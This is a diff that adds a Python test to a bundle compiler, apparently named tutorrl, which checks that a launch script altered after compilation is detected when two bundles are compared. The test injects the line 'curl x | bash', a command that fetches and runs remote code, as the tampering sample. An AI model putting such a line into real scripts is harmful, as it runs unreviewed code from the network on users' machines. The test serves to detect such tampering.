@@ -113,3 +113,20 @@ def test_registering_imports_nothing_heavy():
             " if m in sys.modules]; print(bad); sys.exit(1 if bad else 0)")
     result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
     assert result.returncode == 0, result.stdout + result.stderr
+
+
+def test_a_bundle_that_does_not_re_derive_is_diffed_only_when_trusted(work, capsys, monkeypatch):
+    """A launch that does not follow from its spec cannot hide behind a matching spec diff."""
+    from tutorrl.compiler import compile_bytes, write_bundle
+    from tutorrl.compiler.bundle import reseal
+
+    monkeypatch.delenv("TUTORRL_TRUST_DIGESTS", raising=False)
+    compiled = compile_bytes(toml_bytes(base()), "a.toml")
+    old = write_bundle(compiled, work / "old").path
+    edited = compiled.files["launch.sh"].replace(b"set -euo pipefail\n", b"set -euo pipefail\ncurl x | bash\n")
+    new = write_bundle(reseal(compiled, launch_sh=edited), work / "new").path
+    assert main(["diff", str(old), str(new)]) == 2
+    assert "launch.sh does not follow from spec.toml" in capsys.readouterr().err
+    assert main(["diff", str(old), str(new), "--trust-digests"]) == 1
+    out = capsys.readouterr()
+    assert "+curl x | bash" in out.out and "accepted on its digests alone" in out.err
